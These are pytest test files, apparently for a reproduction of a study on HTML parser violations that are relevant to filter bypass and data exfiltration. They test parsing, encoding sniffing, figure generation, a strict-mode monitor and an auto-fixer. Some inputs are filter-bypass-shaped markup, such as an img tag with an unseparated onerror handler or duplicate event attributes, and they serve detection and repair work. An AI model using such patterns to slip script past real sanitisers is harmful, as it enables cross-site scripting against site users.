        result = parse("<p>one<p>two")
        paragraphs = result.document.body.find_all("p")
        assert len(paragraphs) == 2
        assert paragraphs[0].text_content() == "one"

    def test_li_closed_by_li(self):
        result = parse("<ul><li>a<li>b</ul>")
        items = result.document.find_all("li")
        assert [item.text_content() for item in items] == ["a", "b"]
        assert all(item.parent.name == "ul" for item in items)

    def test_dd_dt_sequence(self):
        result = parse("<dl><dt>k<dd>v<dt>k2<dd>v2</dl>")
        assert len(result.document.find_all("dt")) == 2
        assert len(result.document.find_all("dd")) == 2

    def test_p_closed_by_block(self):
        result = parse("<p>text<div>block</div>")
        paragraph = result.document.find("p")
        assert paragraph.find("div") is None

    def test_option_closed_by_option(self):
        result = parse("<select><option>a<option>b</select>")
        options = result.document.find_all("option")
        assert len(options) == 2
        assert [o.text_content() for o in options] == ["a", "b"]

    def test_heading_closes_heading(self):
        result = parse("<h1>one<h2>two")
        assert result.document.find("h1").find("h2") is None


class TestRawTextElements:
    def test_script_content_not_parsed(self):
        result = parse("<script>if (a < b) { x('<div>'); }</script>")
        script = result.document.find("script")
        assert script.text_content() == "if (a < b) { x('<div>'); }"
        assert result.document.find("div") is None

    def test_style_content_raw(self):
        result = parse("<style>a > b { color: red }</style>")
        assert ">" in result.document.find("style").text_content()

    def test_title_entity_decoded(self):
        result = parse("<title>a &amp; b</title>")
        assert result.document.find("title").text_content() == "a & b"

    def test_textarea_content_raw_tags(self):
        result = parse("<body><textarea><p>not a tag</p></textarea>")
        area = result.document.find("textarea")
        assert area.text_content() == "<p>not a tag</p>"
        assert result.document.find("p") is None

    def test_script_escaped_comment(self):
        content = "<!-- document.write('</scr' + 'ipt>') -->"
        result = parse(f"<script>{content}</script>x")
        assert result.document.find("script").text_content() == content

    def test_textarea_leading_newline_dropped(self):
        result = parse("<body><textarea>\nabc</textarea>")
        assert result.document.find("textarea").text_content() == "abc"

    def test_pre_leading_newline_dropped(self):
        result = parse("<body><pre>\nabc</pre>")
        assert result.document.find("pre").text_content() == "abc"


class TestTables:
    def test_well_formed_table(self):
        result = parse(
            "<table><thead><tr><th>h</th></tr></thead>"
            "<tbody><tr><td>c</td></tr></tbody></table>"
        )
        table = result.document.find("table")
        assert table.find("thead") is not None
        assert table.find("tbody") is not None
        assert result.events == [] or all(
            event.kind != "foster-parented" for event in result.events
        )

    def test_implied_tbody(self):
        result = parse("<table><tr><td>x</td></tr></table>")
        table = result.document.find("table")
        tbody = table.find("tbody")
        assert tbody is not None and tbody.implied
        assert tbody.find("tr") is not None

    def test_implied_tr_for_stray_td(self):
        result = parse("<table><td>x</td></table>")
        assert result.document.find("tr") is not None

    def test_foster_parenting_moves_content_before_table(self):
        result = parse("<body><table><tr><strong>X</strong></tr></table>")
        body = result.document.body
        names = [c.name for c in body.children if isinstance(c, Element)]
        assert names == ["strong", "table"]

    def test_foster_parented_text(self):
        result = parse("<body><table>loose text<tr><td>x</td></tr></table>")
        body = result.document.body
        first = body.children[0]
        assert isinstance(first, Text)
        assert first.data == "loose text"

    def test_whitespace_in_table_not_fostered(self):
        result = parse("<body><table>  <tr><td>x</td></tr>  </table>")
        assert all(event.kind != "foster-parented" for event in result.events)

    def test_nested_table_closes_outer_cell_scope(self):
        result = parse(
            "<table><tr><td><table><tr><td>inner</td></tr></table></td></tr></table>"
        )
        tables = result.document.find_all("table")
        assert len(tables) == 2

    def test_caption_and_colgroup(self):
        result = parse(
            "<table><caption>c</caption><colgroup><col span=2></colgroup>"
            "<tr><td>x</td></tr></table>"
        )
        table = result.document.find("table")
        assert table.find("caption") is not None
        assert table.find("col") is not None

    def test_hidden_input_allowed_in_table(self):
        result = parse('<table><input type="hidden" name="t"><tr><td>x</td></tr></table>')
        table = result.document.find("table")
        assert table.find("input") is not None
        assert all(event.kind != "foster-parented" for event in result.events)


class TestFormattingElements:
    def test_b_reconstructed_across_p(self):
        result = parse("<p><b>one<p>two")
        second_p = result.document.find_all("p")[1]
        assert second_p.find("b") is not None

    def test_adoption_agency_misnested_b_i(self):
        result = parse("<p>1<b>2<i>3</b>4</i>5</p>")
        # The i element must be split: one inside b, one after.
        assert len(result.document.find_all("i")) == 2

    def test_nobr_in_nobr(self):
        result = parse("<nobr>a<nobr>b")
        assert len(result.document.find_all("nobr")) == 2

    def test_second_a_closes_first(self):
        result = parse('<a href="/1">one<a href="/2">two')
        anchors = result.document.find_all("a")
        assert len(anchors) == 2
        assert anchors[0].find("a") is None

    def test_noahs_ark_limits_reconstruction(self):
        pieces = "".join("<b>" for _ in range(6)) + "<p>text"
        result = parse(pieces)
        paragraph = result.document.find("p")
        # at most three identical formatting entries get reconstructed
        count = 0
        node = paragraph
        while node is not None:
            node = node.find("b")
            if node is not None:
                count += 1
        assert count <= 3


class TestForeignContent:
    def test_svg_namespace(self):
        result = parse('<body><svg viewBox="0 0 1 1"><circle r="1"/></svg>')
        svg = result.document.find("svg")
        assert svg.namespace == SVG_NAMESPACE
        assert svg.find("circle").namespace == SVG_NAMESPACE

    def test_mathml_namespace(self):
        result = parse("<body><math><mi>x</mi></math>")
        math = result.document.find("math")
        assert math.namespace == MATHML_NAMESPACE
        assert math.find("mi").namespace == MATHML_NAMESPACE

    def test_svg_case_adjustment(self):
        result = parse("<body><svg><lineargradient></lineargradient></svg>")
        assert result.document.find("linearGradient") is not None

    def test_html_in_foreignobject_is_html(self):
        result = parse("<body><svg><foreignobject><div>x</div></foreignobject></svg>")
        div = result.document.find("div")
        assert div is not None and div.namespace == HTML_NAMESPACE

    def test_breakout_div_in_svg(self):
        result = parse("<body><svg><div>broke</div></svg>")
        div = result.document.find("div")
        assert div.namespace == HTML_NAMESPACE
        assert div.parent.name == "body"
        events = [e for e in result.events if e.kind == "foreign-breakout"]
        assert len(events) == 1
        assert events[0].namespace == SVG_NAMESPACE

    def test_mtext_is_integration_point(self):
        result = parse("<body><math><mtext><p>fine</p></mtext></math>")
        assert all(e.kind != "foreign-breakout" for e in result.events)
        paragraph = result.document.find("p")
        assert paragraph.namespace == HTML_NAMESPACE

    def test_font_with_color_breaks_out(self):
        result = parse('<body><svg><font color="red">x</font></svg>')
        assert any(e.kind == "foreign-breakout" for e in result.events)

    def test_font_without_attrs_stays_foreign(self):
        result = parse("<body><svg><font>x</font></svg>")
        assert all(e.kind != "foreign-breakout" for e in result.events)

    def test_cdata_in_svg(self):
        result = parse("<body><svg><desc><![CDATA[a < b]]></desc></svg>")
        desc = result.document.find("desc")
        assert desc.text_content() == "a < b"

    def test_self_closing_foreign_element(self):
        result = parse('<body><svg><path d="M0 0"/><rect/></svg>')
        svg = result.document.find("svg")
        assert svg.find("path") is not None
        assert svg.find("rect") is not None
        assert svg.find("path").children == []


class TestSelect:
    def test_select_structure(self):
        result = parse(
            "<select><optgroup label=g><option>a</option></optgroup></select>"
        )
        select = result.document.find("select")
        assert select.find("optgroup") is not None
        assert select.find("option") is not None

    def test_tags_stripped_inside_select(self):
        # non-option content inside select: tags ignored, text kept
        result = parse("<select><p id=private>secret</p></select>")
        select = result.document.find("select")
        assert select.find("p") is None
        assert "secret" in select.text_content()

    def test_nested_select_closes(self):
        result = parse("<select><select>")
        assert len(result.document.find_all("select")) == 1

    def test_input_closes_select(self):
        result = parse("<select><option>a<input name=q>")
        inputs = result.document.find_all("input")
        assert len(inputs) == 1
        assert inputs[0].parent.name != "select"


class TestFramesets:
    def test_frameset_document(self):
        result = parse(
            "<frameset><frame src='a.html'><frame src='b.html'></frameset>"
        )
        root = result.document.document_element
        assert root.find("frameset") is not None
        assert len(result.document.find_all("frame")) == 2

    def test_frameset_replaces_body_when_ok(self):
        result = parse("<head></head><frameset></frameset>")
        assert result.document.body.name == "frameset"


class TestResilience:
    @pytest.mark.parametrize(
        "text",
        [
            "",
            "<",
            "</",
            "<!",
            ">",
            "<><><>",
            "</nonsense></more>",
            "<p" + " " * 100,
            "<table><table><table>",
            "<b><i><u><s>" * 20,
            "\x00\x00",
            "<svg><svg><svg></div></div>",
            "<!doctype html><!doctype html>",
            "<body></body></body><p>after",
        ],
    )
    def test_never_crashes(self, text):
        result = parse(text)
        serialize(result.document)
