"""Fragment parsing (the innerHTML algorithm) tests across contexts."""
from __future__ import annotations

import pytest

from repro.html import (
    HTML_NAMESPACE,
    SVG_NAMESPACE,
    Element,
    inner_html,
    parse_fragment,
)


def names(nodes):
    return [node.name for node in nodes if isinstance(node, Element)]


class TestBasicContexts:
    def test_div_context(self):
        nodes, _result = parse_fragment("<p>a</p><p>b</p>", "div")
        assert names(nodes) == ["p", "p"]

    def test_text_in_div(self):
        nodes, _result = parse_fragment("just text", "div")
        assert nodes and nodes[0].parent is not None

    def test_td_requires_table_context(self):
        # td outside a table context is ignored; its text survives
        nodes, _result = parse_fragment("<td>cell</td>", "div")
        assert "td" not in names(nodes)

    def test_tr_context_keeps_cells(self):
        nodes, _result = parse_fragment("<td>a</td><td>b</td>", "tr")
        assert names(nodes) == ["td", "td"]

    def test_tbody_context_keeps_rows(self):
        nodes, _result = parse_fragment("<tr><td>x</td></tr>", "tbody")
        assert names(nodes) == ["tr"]

    def test_select_context(self):
        nodes, _result = parse_fragment(
            "<option>a</option><option>b</option>", "select"
        )
        assert names(nodes) == ["option", "option"]

    def test_select_context_strips_markup(self):
        nodes, result = parse_fragment("<div><option>a</option>", "select")
        assert "div" not in names(nodes)
        assert names(nodes) == ["option"]


class TestTextContexts:
    def test_textarea_context_is_rcdata(self):
        nodes, result = parse_fragment("<p>not a tag</p>", "textarea")
        assert names(nodes) == []
        text = "".join(
            node.data for node in nodes if hasattr(node, "data")
        )
        assert text == "<p>not a tag</p>"

    def test_script_context_is_raw(self):
        nodes, _result = parse_fragment("if (a<b) {}", "script")
        assert names(nodes) == []

    def test_style_context_is_raw(self):
        nodes, _result = parse_fragment("a > b {}", "style")
        assert names(nodes) == []

    def test_title_entities_decoded(self):
        nodes, _result = parse_fragment("a &amp; b", "title")
        text = "".join(node.data for node in nodes if hasattr(node, "data"))
        assert text == "a & b"


class TestFragmentRoundTrip:
    @pytest.mark.parametrize(
        "fragment",
        [
            "<p>one</p><p>two</p>",
            '<a href="/x">link</a> and text',
            "<ul><li>a</li><li>b</li></ul>",
            "<table><tbody><tr><td>c</td></tr></tbody></table>",
        ],
    )
    def test_stable_roundtrip(self, fragment):
        nodes, _result = parse_fragment(fragment, "div")
        parent = nodes[0].parent
        once = inner_html(parent)
        nodes2, _ = parse_fragment(once, "div")
        assert inner_html(nodes2[0].parent) == once

    def test_svg_context_namespace(self):
        nodes, _result = parse_fragment('<circle r="1"></circle>', "div")
        # circle without an svg root in a div context is an unknown HTML
        # element, not SVG
        circle = nodes[0]
        assert isinstance(circle, Element)
        assert circle.namespace == HTML_NAMESPACE


class TestFragmentErrors:
    def test_errors_reported(self):
        _nodes, result = parse_fragment('<img src="a"onerror="x">', "div")
        assert result.errors

    def test_events_reported(self):
        _nodes, result = parse_fragment(
            "<table><tr><b>bad</b></tr></table>", "div"
        )
        assert any(event.kind == "foster-parented" for event in result.events)
