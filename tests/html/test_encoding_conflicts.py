"""Encoding declaration conflicts: precedence, prescan limits, bad tails.

The paper's framework filters to UTF-8-decodable documents and *reports*
declared encodings separately; these tests pin down the sniffing
behaviour when the declarations disagree with each other or with the
bytes — the cases where a wrong precedence order would silently change
the study's encoding distribution (Table 1's population).
"""
from repro.html import decode_bytes, sniff_encoding
from repro.html.encoding import PRESCAN_BYTES


class TestBomConflicts:
    def test_bom_beats_contradicting_meta(self):
        data = b"\xef\xbb\xbf<meta charset=shift_jis><p>\xe3\x81\x82"
        result = sniff_encoding(data)
        assert result.encoding == "utf-8"
        assert result.source == "bom"
        # and the filter agrees: the bytes really are UTF-8
        assert decode_bytes(data) is not None

    def test_bom_beats_http_charset(self):
        data = b"\xef\xbb\xbf<p>x"
        result = sniff_encoding(
            data, http_content_type="text/html; charset=koi8-r"
        )
        assert result.encoding == "utf-8"
        assert result.source == "bom"

    def test_utf16_bom_sniffs_but_fails_the_filter(self):
        # "<p>" in UTF-16-LE with its BOM: declared fine, not UTF-8
        data = b"\xff\xfe" + "<p>hi".encode("utf-16-le")
        result = sniff_encoding(data)
        assert result.encoding == "utf-16-le"
        assert result.source == "bom"
        assert decode_bytes(data) is None


class TestHttpVsMeta:
    def test_http_charset_beats_meta(self):
        data = b"<meta charset=windows-1251><p>x"
        result = sniff_encoding(
            data, http_content_type="text/html; charset=koi8-r"
        )
        assert result.encoding == "koi8-r"
        assert result.source == "http"

    def test_unknown_http_label_falls_through_to_meta(self):
        data = b"<meta charset=windows-1251><p>x"
        result = sniff_encoding(
            data, http_content_type="text/html; charset=x-made-up"
        )
        assert result.encoding == "windows-1251"
        assert result.source == "meta"

    def test_bare_content_type_without_charset_uses_meta(self):
        data = b"<meta charset=utf-8>"
        result = sniff_encoding(data, http_content_type="text/html")
        assert result.source == "meta"


class TestPrescanLimits:
    def test_meta_inside_comment_ignored(self):
        data = b"<!-- <meta charset=koi8-r> --><meta charset=utf-8>"
        result = sniff_encoding(data)
        assert result.encoding == "utf-8"

    def test_comment_hiding_all_declarations_yields_none(self):
        data = b"<!-- <meta charset=koi8-r> --><p>x"
        result = sniff_encoding(data)
        assert result.encoding is None
        assert result.source == "none"

    def test_meta_beyond_prescan_window_ignored(self):
        padding = b"<!DOCTYPE html>" + b" " * PRESCAN_BYTES
        data = padding + b"<meta charset=koi8-r>"
        result = sniff_encoding(data)
        assert result.encoding is None

    def test_first_of_two_conflicting_metas_wins(self):
        data = b"<meta charset=shift_jis><meta charset=utf-8>"
        assert sniff_encoding(data).encoding == "shift_jis"

    def test_utf16_meta_read_as_utf8(self):
        # spec: a prescan that finds utf-16 proves the bytes are ASCII-
        # compatible, so the declaration is read as utf-8
        assert sniff_encoding(b"<meta charset=utf-16>").encoding == "utf-8"


class TestTruncatedTails:
    def test_truncated_multibyte_tail_fails_the_filter(self):
        whole = "café".encode("utf-8")
        truncated = whole[:-1]  # cut the 2-byte sequence in half
        assert decode_bytes(whole) == "café"
        assert decode_bytes(truncated) is None

    def test_truncated_tail_still_reports_declared_encoding(self):
        # the sniffer reads declarations, not body bytes: a truncated
        # document still contributes to the declared-encoding stats
        data = b"<meta charset=utf-8><p>caf" + "é".encode("utf-8")[:-1]
        result = sniff_encoding(data)
        assert result.encoding == "utf-8"
        assert result.source == "meta"
        assert decode_bytes(data) is None

    def test_bom_with_truncated_tail(self):
        data = b"\xef\xbb\xbf<p>" + "あ".encode("utf-8")[:2]
        assert sniff_encoding(data).source == "bom"
        assert decode_bytes(data) is None
