"""Analysis layer tests on a real (small) end-to-end study."""
from __future__ import annotations

import pytest

from repro.analysis import (
    APPENDIX_FIGURES,
    appendix_figure,
    compare_mitigations,
    dataset_table,
    estimate_autofix,
    figure8_distribution,
    figure9_overall_trend,
    figure10_group_trends,
    all_violation_trends,
)
from repro.commoncrawl import calibration as cal
from repro.core import AUTO_FIXABLE_IDS, Group
from repro.core.violations import ALL_IDS


class TestTable2:
    def test_eight_rows(self, small_study):
        summary = dataset_table(small_study.storage)
        assert [row.year for row in summary.rows] == list(cal.YEARS)

    def test_snapshot_names_match_cc(self, small_study):
        summary = dataset_table(small_study.storage)
        assert summary.rows[0].snapshot == "CC-MAIN-2015-14"
        assert summary.rows[-1].snapshot == "CC-MAIN-2022-05"

    def test_success_rates_high(self, small_study):
        summary = dataset_table(small_study.storage)
        for row in summary.rows:
            assert row.success_rate > 0.9

    def test_2017_growth(self, small_study):
        """Table 2: 'the number of domains we analyzed increased
        tremendously in 2017'."""
        summary = dataset_table(small_study.storage)
        by_year = {row.year: row for row in summary.rows}
        assert by_year[2017].analyzed >= by_year[2016].analyzed

    def test_totals(self, small_study):
        summary = dataset_table(small_study.storage)
        assert summary.total_domains >= max(row.analyzed for row in summary.rows)
        assert summary.total_pages > 0


class TestFigure8:
    def test_all_violations_listed(self, small_study):
        stats = figure8_distribution(small_study.storage)
        assert {entry.violation for entry in stats.distribution} == set(ALL_IDS)

    def test_sorted_descending(self, small_study):
        stats = figure8_distribution(small_study.storage)
        counts = [entry.domains for entry in stats.distribution]
        assert counts == sorted(counts, reverse=True)

    def test_fb2_dm3_dominate(self, small_study):
        """Figure 8's headline: FB2 and DM3 are the two most common."""
        stats = figure8_distribution(small_study.storage)
        top_two = {entry.violation for entry in stats.distribution[:2]}
        assert top_two == {"FB2", "DM3"}

    def test_union_exceeds_any_single_year(self, small_study):
        stats = figure8_distribution(small_study.storage)
        trend = figure9_overall_trend(small_study.storage)
        assert stats.any_violation_fraction >= max(trend.fractions())

    def test_rare_violations_rare(self, small_study):
        stats = figure8_distribution(small_study.storage)
        by_id = {e.violation: e for e in stats.distribution}
        assert by_id["HF5_3"].fraction < 0.05
        assert by_id["DE1"].fraction < 0.05


class TestFigure9:
    def test_eight_points(self, small_study):
        trend = figure9_overall_trend(small_study.storage)
        assert [point.year for point in trend.points] == list(cal.YEARS)

    def test_majority_violates_every_year(self, small_study):
        trend = figure9_overall_trend(small_study.storage)
        assert all(fraction > 0.5 for fraction in trend.fractions())

    def test_within_band_of_paper(self, small_study):
        trend = figure9_overall_trend(small_study.storage)
        for point in trend.points:
            paper = cal.OVERALL_VIOLATING[point.year]
            assert abs(point.fraction - paper) < 0.15


class TestFigure10:
    def test_all_groups_present(self, small_study):
        series = figure10_group_trends(small_study.storage)
        assert set(series) == set(Group)

    def test_de_group_is_smallest(self, small_study):
        """Figure 10: DE violations are 'relatively rare compared to the
        other groups' (5% vs 40-50%)."""
        series = figure10_group_trends(small_study.storage)
        de_mean = sum(series[Group.DATA_EXFILTRATION].fractions()) / 8
        for group in (Group.FILTER_BYPASS, Group.DATA_MANIPULATION,
                      Group.HTML_FORMATTING):
            assert de_mean < sum(series[group].fractions()) / 8

    def test_group_ordering_matches_paper(self, small_study):
        """FB and DM lead, HF in between, DE far below."""
        series = figure10_group_trends(small_study.storage)
        means = {
            group.value: sum(s.fractions()) / len(s.fractions())
            for group, s in series.items()
        }
        assert means["FB"] > means["HF"] > means["DE"]
        assert means["DM"] > means["HF"]


class TestAppendixTrends:
    def test_all_figures_defined(self):
        plotted = {vid for ids in APPENDIX_FIGURES.values() for vid in ids}
        assert plotted == set(ALL_IDS)

    def test_appendix_figure_lookup(self, small_study):
        series = appendix_figure(small_study.storage, "figure16_filter_bypass")
        assert set(series) == {"FB1", "FB2"}

    def test_fb2_above_fb1_every_year(self, small_study):
        trends = all_violation_trends(small_study.storage)
        for fb2, fb1 in zip(trends["FB2"].fractions(), trends["FB1"].fractions()):
            assert fb2 >= fb1

    def test_paper_values_attached(self, small_study):
        trends = all_violation_trends(small_study.storage)
        assert trends["FB2"].paper_values == cal.YEARLY_PREVALENCE["FB2"]


class TestAutofixEstimate:
    def test_after_autofix_fewer(self, small_study):
        estimate = estimate_autofix(small_study.storage, 2022)
        assert estimate.after_autofix_domains < estimate.violating_domains
        assert estimate.fully_fixable_domains > 0

    def test_fraction_fixed_positive(self, small_study):
        estimate = estimate_autofix(small_study.storage, 2022)
        assert 0.2 < estimate.fraction_fixed < 0.8

    def test_consistency(self, small_study):
        estimate = estimate_autofix(small_study.storage, 2022)
        assert (
            estimate.after_autofix_domains + estimate.fully_fixable_domains
            == estimate.violating_domains
        )
        assert estimate.violating_fraction <= 1.0

    def test_classification_matches_storage(self, small_study):
        estimate = estimate_autofix(small_study.storage, 2022)
        violation_sets = small_study.storage.domain_violation_sets(2022)
        manual = sum(
            1 for violations in violation_sets.values()
            if violations - AUTO_FIXABLE_IDS
        )
        assert estimate.after_autofix_domains == manual


class TestMitigations:
    def test_no_nonced_scripts_hit(self, small_study):
        """Section 4.5: 'none of these elements is a script tag that uses
        a CSP nonce'."""
        comparison = compare_mitigations(small_study.storage)
        assert not comparison.nonce_mitigation_affects_anyone

    def test_years(self, small_study):
        comparison = compare_mitigations(small_study.storage)
        assert comparison.first.year == 2015
        assert comparison.last.year == 2022

    def test_nl_subset_of_nl(self, small_study):
        comparison = compare_mitigations(small_study.storage)
        for year in (comparison.first, comparison.last):
            assert year.nl_lt_in_url_domains <= year.nl_in_url_domains
