"""Section 5.1/5.2 study tests: fragment checking, calibration, shapes."""
from __future__ import annotations

import random

import pytest

from repro.analysis import (
    render_dynamic,
    render_generalization,
    run_dynamic_prestudy,
    run_generalization_study,
)
from repro.commoncrawl.fragmentgen import (
    FRAGMENT_INJECTORS,
    build_fragment,
    generate_domain_fragments,
)
from repro.core import Checker

CHECKER = Checker()


class TestFragmentChecking:
    def test_clean_fragments_have_no_violations(self):
        for seed in range(30):
            fragment = build_fragment(random.Random(seed))
            report = CHECKER.check_fragment(fragment)
            assert report.violated == frozenset(), (seed, fragment)

    @pytest.mark.parametrize(
        "injector", FRAGMENT_INJECTORS, ids=lambda i: i.rule
    )
    def test_each_fragment_injector_triggers_its_rule(self, injector):
        for seed in range(4):
            rng = random.Random(seed)
            fragment = injector.apply(build_fragment(rng), rng)
            report = CHECKER.check_fragment(fragment)
            assert injector.rule in report.violated, (injector.rule, fragment)

    def test_fragment_context_matters(self):
        # option content parsed in a select context behaves differently
        report = CHECKER.check_fragment("<option>a<option>b", context="select")
        assert isinstance(report.violated, frozenset)

    def test_generate_domain_fragments_deterministic(self):
        a = generate_domain_fragments("x.example", count=5, seed=1)
        b = generate_domain_fragments("x.example", count=5, seed=1)
        assert [f.html for f in a] == [f.html for f in b]

    def test_injected_ground_truth_detected(self):
        for spec in generate_domain_fragments("gt.example", count=30, seed=3):
            report = CHECKER.check_fragment(spec.html)
            assert set(spec.injected) <= set(report.violated), (
                spec.injected, sorted(report.violated), spec.html
            )


class TestDynamicPrestudy:
    @pytest.fixture(scope="class")
    def prestudy(self):
        return run_dynamic_prestudy(num_domains=100, fragments_per_domain=10)

    def test_violating_fraction_near_60(self, prestudy):
        assert 0.45 < prestudy.violating_fraction < 0.8

    def test_fb2_dm3_top(self, prestudy):
        assert set(prestudy.top_violations(2)) == {"FB2", "DM3"}

    def test_math_hardly_appears(self, prestudy):
        assert prestudy.distribution.get("HF5_3", 0) == 0

    def test_render(self, prestudy):
        out = render_dynamic(prestudy)
        assert "paper: >60%" in out


class TestGeneralization:
    @pytest.fixture(scope="class")
    def comparison(self):
        return run_generalization_study(num_domains=40)

    def test_distributions_similar(self, comparison):
        assert comparison.rank_correlation > 0.5

    def test_popular_more_violations(self, comparison):
        assert comparison.popular_has_more_violations

    def test_render(self, comparison):
        out = render_generalization(comparison)
        assert "rank correlation" in out
