"""Report renderer tests: every table/figure prints with paper columns."""
from __future__ import annotations

from repro.analysis import (
    render_autofix,
    render_figure8,
    render_group_trends,
    render_mitigations,
    render_table,
    render_table2,
    render_trend,
)


class TestRenderTable:
    def test_alignment(self):
        out = render_table(["A", "Blong"], [["1", "2"], ["333", "4"]])
        lines = out.splitlines()
        assert lines[0].startswith("A  ")
        assert set(lines[1]) <= {"-", " "}
        assert len(lines) == 4


class TestRenderers:
    def test_table2(self, small_study):
        out = render_table2(small_study.table2())
        assert "CC-MAIN-2015-14" in out
        assert "Paper" in out
        assert "Total analyzed domains" in out

    def test_figure8(self, small_study):
        out = render_figure8(small_study.figure8())
        assert "FB2" in out and "HF5_3" in out
        assert "Paper" in out
        assert "#" in out  # the ascii bar

    def test_figure9_trend(self, small_study):
        out = render_trend(small_study.figure9(), "Figure 9")
        assert "2015" in out and "2022" in out
        assert "74.31%" in out  # paper column

    def test_figure10(self, small_study):
        out = render_group_trends(small_study.figure10())
        for group in ("FB", "DM", "HF", "DE"):
            assert group in out
        assert "52% -> 43%" in out

    def test_autofix(self, small_study):
        out = render_autofix(small_study.autofix_estimate())
        assert "paper: 68%" in out
        assert "paper: 37%" in out
        assert "46%" in out

    def test_mitigations(self, small_study):
        out = render_mitigations(small_study.mitigations())
        assert "'<script' in attribute" in out
        assert "newline AND '<' in URL" in out
        assert "West 2017" in out
