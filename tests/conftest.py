"""Shared fixtures: a small end-to-end study, reused across test modules."""
from __future__ import annotations

import pytest

from repro.core import Checker
from repro.study import StudyConfig, run_study


@pytest.fixture(scope="session")
def checker() -> Checker:
    return Checker()


@pytest.fixture(scope="session")
def small_study(tmp_path_factory):
    """A complete (tiny) study run: archive + pipeline + results DB."""
    cache = tmp_path_factory.mktemp("study-cache")
    config = StudyConfig(num_domains=80, max_pages=4, seed=11)
    study = run_study(config, cache_dir=cache)
    yield study
    study.close()
