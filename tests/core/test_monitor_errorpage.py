"""Monitor collector and strict-mode error page tests (section 5.3.2)."""
from __future__ import annotations

from repro.core import (
    Checker,
    MonitorCollector,
    StrictMode,
    StrictParserPolicy,
    parse_with_policy,
    render_error_page,
)

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)
FB2_PAGE = PAGE.format('<img src="a"onerror="x()">')
MIXED_PAGE = PAGE.format(
    '<img src="a"onerror="x()">'
    "<table><tr><strong>X</strong></tr></table>"
)
CLEAN_PAGE = PAGE.format("<p>x</p>")


class TestMonitorCollector:
    def test_collects_notifications(self):
        monitor = MonitorCollector()
        policy = StrictParserPolicy(StrictMode.DEFAULT, "https://mon/r")
        for index, page in enumerate((FB2_PAGE, MIXED_PAGE, CLEAN_PAGE)):
            parse_with_policy(
                page, policy, url=f"https://s/p{index}", monitor=monitor
            )
        assert len(monitor) == 2  # clean page reports nothing

    def test_by_violation_counts(self):
        monitor = MonitorCollector()
        policy = StrictParserPolicy(StrictMode.DEFAULT, "https://mon/r")
        parse_with_policy(FB2_PAGE, policy, url="https://s/1", monitor=monitor)
        parse_with_policy(MIXED_PAGE, policy, url="https://s/2", monitor=monitor)
        counts = monitor.by_violation()
        assert counts["FB2"] == 2
        assert counts["HF4"] == 1

    def test_pages_that_would_break(self):
        monitor = MonitorCollector()
        strict = StrictParserPolicy(StrictMode.STRICT, "https://mon/r")
        parse_with_policy(FB2_PAGE, strict, url="https://s/broken",
                          monitor=monitor)
        parse_with_policy(CLEAN_PAGE, strict, url="https://s/fine",
                          monitor=monitor)
        assert monitor.pages_that_would_break() == ["https://s/broken"]

    def test_summary(self):
        monitor = MonitorCollector()
        policy = StrictParserPolicy(StrictMode.DEFAULT, "https://mon/r")
        parse_with_policy(FB2_PAGE, policy, url="https://s/1", monitor=monitor)
        out = monitor.summary()
        assert "1 report(s)" in out
        assert "FB2" in out

    def test_no_monitor_url_no_collection(self):
        monitor = MonitorCollector()
        parse_with_policy(
            FB2_PAGE, StrictParserPolicy(StrictMode.STRICT), monitor=monitor
        )
        assert len(monitor) == 0


class TestErrorPage:
    def test_error_page_lists_violations(self):
        outcome = parse_with_policy(
            MIXED_PAGE, StrictParserPolicy(StrictMode.STRICT),
            url="https://victim.example/",
        )
        page = render_error_page(outcome)
        assert "could not be displayed" in page
        assert "FB2" in page and "HF4" in page
        assert "https://victim.example/" in page

    def test_error_page_is_itself_conforming(self):
        """The warning page a strict browser shows must obviously pass the
        strict parser itself."""
        outcome = parse_with_policy(
            FB2_PAGE, StrictParserPolicy(StrictMode.STRICT)
        )
        page = render_error_page(outcome)
        assert Checker().check_html(page).violated == frozenset()
