"""Page-features measurement tests (math/svg adoption counters)."""
from __future__ import annotations

from repro.core.features import measure_features_html

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


class TestMeasureFeatures:
    def test_math_counted(self):
        features = measure_features_html(PAGE.format(
            "<math><mi>x</mi></math><math><mn>1</mn></math>"
        ))
        assert features.math_elements == 2
        assert features.uses_math

    def test_svg_counted(self):
        features = measure_features_html(PAGE.format(
            "<svg><circle r='1'/></svg>"
        ))
        assert features.svg_elements == 1
        assert features.uses_svg
        assert not features.uses_math

    def test_plain_page(self):
        features = measure_features_html(PAGE.format("<p>x</p>"))
        assert not features.uses_math and not features.uses_svg

    def test_stranded_foreign_names_not_counted(self):
        # a <math>-less <mi> is an unknown HTML element, not math usage;
        # likewise "svg" must be in the SVG namespace
        features = measure_features_html(PAGE.format("<mi>x</mi>"))
        assert features.math_elements == 0

    def test_nested_svg_in_math_annotation(self):
        features = measure_features_html(PAGE.format(
            "<math><annotation-xml encoding='text/html'>"
            "<svg><rect/></svg></annotation-xml></math>"
        ))
        assert features.math_elements == 1
        assert features.svg_elements == 1
