"""Auto-repair (section 4.4) tests: the fixer removes exactly the
auto-fixable violations and leaves rendering and HF/DE findings intact."""
from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.core import AUTO_FIXABLE_IDS, Checker, autofix, estimate_fixability
from repro.html import inner_html, parse

CHECKER = Checker()

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


class TestTagRewrites:
    def test_fb2_fixed(self):
        result = autofix(PAGE.format('<img src="a.png"onerror="x()">'))
        assert result.changed
        assert "FB2" not in CHECKER.check_html(result.fixed).violated
        assert 'src="a.png"' in result.fixed
        assert 'onerror="x()"' in result.fixed

    def test_fb1_fixed(self):
        result = autofix(PAGE.format('<img/src="a.png"/alt="b">'))
        assert "FB1" not in CHECKER.check_html(result.fixed).violated

    def test_dm3_duplicate_removed(self):
        result = autofix(PAGE.format('<div onclick="keep()" onclick="drop()">x</div>'))
        fixed = result.fixed
        assert "DM3" not in CHECKER.check_html(fixed).violated
        assert 'onclick="keep()"' in fixed
        assert "drop()" not in fixed

    def test_rest_of_document_untouched(self):
        html = PAGE.format('<p>before</p><img src="a"alt="b"><p>after</p>')
        result = autofix(html)
        assert "<p>before</p>" in result.fixed
        assert "<p>after</p>" in result.fixed
        # only the img tag was rewritten
        assert result.fixed.count("<img") == 1

    def test_dom_equivalent_after_fix(self):
        """The repair must not change what the parser renders."""
        html = PAGE.format('<img src="a.png"onerror="x()" class="big">')
        fixed = autofix(html).fixed
